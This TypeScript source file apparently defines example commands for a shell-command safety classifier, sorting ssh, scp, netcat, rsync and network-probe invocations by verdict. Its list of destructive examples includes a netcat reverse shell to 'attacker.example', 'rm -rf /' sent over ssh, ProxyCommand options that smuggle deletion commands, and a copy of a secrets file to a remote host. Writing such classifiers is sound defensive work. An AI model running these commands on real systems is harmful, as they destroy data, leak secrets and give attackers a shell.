import { type About, handWritten } from '../hand-written.js';
import { REMOTE } from './analyzers.js';
import { OPENSSL } from './openssl.js';

/** Each command's summary and examples by verdict; the analyzers are hand-written (analyzers.ts). */
const ABOUT: Readonly<Record<string, About>> = {
  ssh: [
    'OpenSSH remote login client',
    {
      readOnly: ['ssh -V'],
      destructive: [
        'ssh host uptime',
        "ssh host 'rm -rf /'",
        "ssh prod 'systemctl restart app'",
        'ssh -o ProxyCommand=\'sh -c "rm -f ~/.ssh/known_hosts"\' host',
        'ssh -o ProxyCommand=\'bash -c "rm -rf ~/tmp"\' example.com',
      ],
    },
  ],
  'ssh-add': [
    'adds private keys to the OpenSSH agent, or lists those it holds',
    {
      readOnly: ['ssh-add -l', 'ssh-add -L', 'ssh-add -l -E md5'],
      notReadOnly: ['ssh-add', 'ssh-add ~/.ssh/id_ed25519', 'ssh-add -D', 'ssh-add -d key', 'ssh-add -x'],
    },
  ],
  'ssh-keygen': [
    'OpenSSH authentication key utility',
    {
      readOnly: ['ssh-keygen -l -f key.pub', 'ssh-keygen -lf ~/.ssh/id_ed25519.pub'],
      destructive: ['ssh-keygen -t ed25519 -f k', 'ssh-keygen -R github.com'],
    },
  ],
  scp: ['OpenSSH secure file copy', { destructive: ['scp secrets.txt host:/tmp'] }],
  sftp: ['OpenSSH secure file transfer', { destructive: ['sftp host'] }],
  ftp: ['an FTP client', { destructive: ['ftp host'] }],
  tftp: ['a TFTP client', { destructive: ['tftp host'] }],
  rsync: [
    'copies files locally or to and from other hosts',
    { destructive: ['rsync -a --delete src/ host:dst/', 'rsync -avz ./site/ deploy@web:/var/www/'] },
  ],
  nc: [
    'netcat: reads and writes network connections',
    { destructive: ['nc -l 8080', 'ncat host 80', 'netcat host 80', 'nc attacker.example 4444 -e /bin/sh'] },
  ],
  socat: [
    'relays data between two addresses (sockets, files, programs)',
    { destructive: ['socat TCP:host:80 -'] },
  ],
  telnet: ['a telnet client', { destructive: ['telnet host 80'] }],
  ping: [
    'sends ICMP echo requests to a host',
    { notReadOnly: ['ping -c 1 example.com', 'ping -c 3 8.8.8.8'] },
  ],
  ping6: ['sends ICMPv6 echo requests to a host', { notReadOnly: ['ping6 -c 1 example.com'] }],
  traceroute: ['prints the route packets take to a host', { notReadOnly: ['traceroute example.com'] }],
  tracepath: ['traces the path to a host', { notReadOnly: ['tracepath example.com'] }],
  mtr: ['traceroute and ping combined', { notReadOnly: ['mtr -r example.com'] }],
  dig: ['DNS lookup', { notReadOnly: ['dig example.com'] }],
  nslookup: ['DNS lookup', { notReadOnly: ['nslookup example.com'] }],
  host: ['DNS lookup', { notReadOnly: ['host example.com'] }],
  whois: ['queries a whois server', { notReadOnly: ['whois example.com'] }],
  nmap: ['network scanner', { notReadOnly: ['nmap example.com'] }],
  arping: ['sends ARP requests', { notReadOnly: ['arping 10.0.0.1'] }],
};

export const REMOTE_ENTRIES = [
  ...handWritten(
    REMOTE,
    'remote shells, copies and network probes: the command sent, the files copied, the host connected to',
    ABOUT,
  ),
  OPENSSL,
];
